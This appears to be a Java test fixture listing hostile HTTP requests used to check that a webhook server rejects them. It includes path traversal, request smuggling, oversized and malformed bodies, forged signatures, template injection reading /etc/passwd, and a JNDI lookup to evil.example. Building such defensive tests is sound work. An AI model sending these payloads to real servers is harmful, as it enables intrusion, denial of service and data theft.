package im.herald.http;

import im.herald.http.HostilePostTest.HostilePost;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;

/// The table of hostile posts, as they are on the wire; a character is an octet.
final class HostilePosts {
  private static final String GOOD = "{\"title\": \"Hello\"}";
  private static final String HEAD =
      "Host: localhost\r\nContent-Type: application/json\r\nConnection: close\r\n";
  private static final String TOKEN = "Authorization: Bearer " + HookPort.TOKEN + "\r\n";

  private final List<HostilePost> all = new ArrayList<>();

  private HostilePosts() {}

  static List<HostilePost> all() {
    HostilePosts posts = new HostilePosts();
    posts.paths();
    posts.smuggling();
    posts.bodies();
    posts.json();
    posts.signatures();
    posts.templates();
    return List.copyOf(posts.all);
  }

  static String honest() {
    return post("/hooks/tokened", TOKEN, GOOD);
  }

  private void paths() {
    path(
        "404",
        "/hooks/../messages",
        "/hooks/%2e%2e/messages",
        "/hooks//tokened",
        "//hooks/tokened");
    path("404", "/hooks/tokened/", "/hooks/tokened;x", "/hooks/tokened%00", "/hooks/TOKENED");
    path(
        "404", "/hooks/tokened?a=b", "/hooks/", "/hooks/%74okened", "/hooks/tokened%2f..%2fsigned");
    none("404", "a path of 10 000 letters", post("/hooks/" + "a".repeat(10_000), TOKEN, GOOD));
    none("405", "a PUT", post("/hooks/tokened", TOKEN, GOOD).replace("POST", "PUT"));
    none(
        "421",
        "another host",
        post("/hooks/tokened", TOKEN, GOOD).replace("localhost", "evil.example"));
  }

  private void smuggling() {
    none(
        "400",
        "two kinds of length",
        raw(TOKEN + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + honest()));
    none("400", "two lengths", raw(TOKEN + "Content-Length: 18\r\nContent-Length: 5\r\n", GOOD));
    none("400", "a length with a sign", raw(TOKEN + "Content-Length: +18\r\n", GOOD));
    none("400", "a negative length", raw(TOKEN + "Content-Length: -1\r\n", GOOD));
    none(
        "501",
        "an unknown encoding of the length",
        raw(TOKEN + "Transfer-Encoding: xchunked\r\n", "12\r\n" + GOOD + "\r\n0\r\n\r\n"));
    none(
        "hung up",
        "a chunk of 2^64 octets",
        raw(TOKEN + "Transfer-Encoding: chunked\r\n", "FFFFFFFFFFFFFFFF\r\n" + GOOD));
    none(
        "400",
        "a blank before the colon",
        raw("Authorization : Bearer " + HookPort.TOKEN + "\r\nContent-Length: 18\r\n", GOOD));
    none(
        "401",
        "two tokens",
        raw("Authorization: Bearer x\r\n" + TOKEN + "Content-Length: 18\r\n", GOOD));
    none(
        "401",
        "a request in the body of another",
        raw("Content-Length: " + honest().length() + "\r\n", honest()));
  }

  private void bodies() {
    none(
        "413",
        "a body of 2 MiB, announced",
        post("/hooks/tokened", TOKEN, "a".repeat(2 * Request.MOST)));
    none(
        "413",
        "a body of 2 MiB in chunks",
        raw(
            TOKEN + "Transfer-Encoding: chunked\r\n",
            "200000\r\n" + "a".repeat(0x200000) + "\r\n0\r\n\r\n"));
    none(
        "hung up",
        "a body of 16 MiB",
        post("/hooks/tokened", TOKEN, "a".repeat(16 * Request.MOST)));
    none("400", "no body", post("/hooks/tokened", TOKEN, ""));
    none("hung up", "half a body", raw(TOKEN + "Content-Length: 100\r\n", GOOD));
    none(
        "415",
        "a compressed body",
        raw(TOKEN + "Content-Encoding: gzip\r\nContent-Length: 18\r\n", GOOD));
    none(
        "415",
        "a form",
        post("/hooks/tokened", TOKEN, "payload=" + GOOD)
            .replace("application/json", "application/x-www-form-urlencoded"));
    none(
        "400",
        "what is no UTF-8",
        post("/hooks/tokened", TOKEN, "{\"title\": \"\u00ff\u00c0\u00af\"}"));
    none(
        "400",
        "UTF-16",
        post(
            "/hooks/tokened",
            TOKEN,
            new String(GOOD.getBytes(StandardCharsets.UTF_16), StandardCharsets.ISO_8859_1)));
    none(
        "400",
        "a picture",
        post("/hooks/tokened", TOKEN, "\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR"));
  }

  private void json() {
    json("nested 100 000 deep", "[".repeat(100_000));
    json("objects 65 deep", "{\"title\":".repeat(65) + "1" + "}".repeat(65));
    json("300 000 values", "[" + "1,".repeat(300_000) + "1]");
    json("a number of a million digits", "{\"title\": %s}".formatted("9".repeat(1_000_000)));
    json("a name of 100 000 letters", "{\"%s\": 1}".formatted("a".repeat(100_000)));
    json("a name twice", "{\"title\": \"Good\", \"title\": \"Bad\"}");
    json("two objects", GOOD + GOOD);
    json("half an object", "{\"title\": \"Hello\"");
    json("what JavaScript takes", "{title: 'Hello', /* */ b: NaN}");
    some(
        "202",
        "a number that would be a billion digits",
        List.of("1E+1000000000"),
        post("/hooks/tokened", TOKEN, "{\"title\": 1e1000000000}"));
  }

  private void signatures() {
    String right = HexFormat.of().formatHex(HooksTest.hmac(GOOD));
    signed("no signature", "");
    signed("an empty signature", "X-Hub-Signature-256: \r\n");
    signed("a signature with SHA-1", "X-Hub-Signature: sha1=" + right.substring(0, 40) + "\r\n");
    signed("half a signature", "X-Hub-Signature-256: sha256=" + right.substring(0, 32) + "\r\n");
    signed(
        "a signature of another body",
        "X-Hub-Signature-256: sha256=" + HexFormat.of().formatHex(HooksTest.hmac("{}")) + "\r\n");
    signed(
        "a wrong signature, then a right one",
        "X-Hub-Signature-256: sha256=00\r\nX-Gitea-Signature: " + right + "\r\n");
    signed("the secret itself", "Authorization: Bearer " + HookPort.SECRET + "\r\n");
    signed("a signature without an id", standard("", HookPort.NOW.getEpochSecond()));
    signed("a signed time of an hour ago", standard("id", HookPort.NOW.getEpochSecond() - 3_600));
    signed("a signed time in an hour", standard("id", HookPort.NOW.getEpochSecond() + 3_600));
    String github =
        post(
            "/hooks/signed",
            "X-Hub-Signature-256: sha256=" + right + "\r\nX-GitHub-Delivery: 1\r\n",
            GOOD);
    some(
        "202, 200",
        "a post of GitHub's, again under another delivery id",
        List.of("Hello"),
        github,
        github.replace("Delivery: 1", "Delivery: 2"));
    String standard = post("/hooks/signed", standard("id", HookPort.NOW.getEpochSecond()), GOOD);
    some("202, 200", "a Standard Webhook, again", List.of("Hello"), standard, standard);
    some(
        "202, 401",
        "a Standard Webhook, again under another id",
        List.of("Hello"),
        standard,
        standard.replace("webhook-id: id", "webhook-id: other"));
  }

  private void templates() {
    said("a template", "{{herald.hook}}{{#list}}x{{/list}}");
    said("a partial", "{{> /etc/passwd}}");
    said("another delimiter", "{{=<% %>=}}<% herald %>");
    said("what other engines run", "${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a}");
    said("markup of XML", "</body><presence type='unsubscribe'/><body>");
    some(
        "202",
        "control characters",
        List.of("a b c d"),
        post("/hooks/tokened", TOKEN, "{\"title\": \"a\\u0000b\\u202ec\\u001bd\"}"));
  }

  private void path(String seen, String... paths) {
    for (String path : paths) {
      none(seen, "`" + path + "`", post(path, TOKEN, GOOD));
    }
  }

  private void json(String name, String body) {
    none("400", "JSON: " + name, post("/hooks/tokened", TOKEN, body));
  }

  private void signed(String name, String headers) {
    none("401", name, post("/hooks/signed", headers, GOOD));
  }

  private void said(String name, String title) {
    some(
        "202",
        name + " in what is posted",
        List.of(title),
        post("/hooks/tokened", TOKEN, "{\"title\": \"%s\"}".formatted(title)));
  }

  private void none(String seen, String name, String request) {
    all.add(new HostilePost(name, List.of(request), List.of(seen), List.of()));
  }

  private void some(String seen, String name, List<String> said, String... requests) {
    all.add(new HostilePost(name, List.of(requests), List.of(seen.split(", ")), said));
  }

  private static String standard(String id, long time) {
    byte[] signature = HooksTest.hmac(id + "." + time + "." + GOOD);
    return "webhook-id: %s\r\nwebhook-timestamp: %d\r\nwebhook-signature: v1,%s\r\n"
        .formatted(id, time, Base64.getEncoder().encodeToString(signature));
  }

  private static String post(String path, String headers, String body) {
    return "POST "
        + path
        + " HTTP/1.1\r\n"
        + HEAD
        + headers
        + "Content-Length: "
        + body.length()
        + "\r\n\r\n"
        + body;
  }

  private static String raw(String headers, String body) {
    return "POST /hooks/tokened HTTP/1.1\r\n" + HEAD + headers + "\r\n" + body;
  }
}
